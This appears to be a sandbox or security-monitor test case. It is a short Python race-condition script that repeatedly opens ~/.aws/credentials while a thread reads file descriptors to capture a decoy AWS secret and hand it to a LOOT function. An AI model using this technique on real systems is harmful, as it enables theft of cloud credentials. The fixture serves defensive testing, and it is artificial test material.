#: {"class": "race", "loader": "script", "expect": [["open", "credentials$"]], "effect": {"loot": "aws"}}
import threading
stop = False; got = []
def steal():
    while not stop and not got:
        for f in range(3, 12):
            try: d = os.pread(f, 999, 0)
            except OSError: continue
            if b"DECOY-aws" in d: got.append(d)
t = threading.Thread(target=steal); t.start()
for i in range(20000):
    if got: break
    os.close(os.open(HOME + "/.aws/credentials", os.O_RDONLY))
stop = True; t.join()
if got: LOOT(got[0])
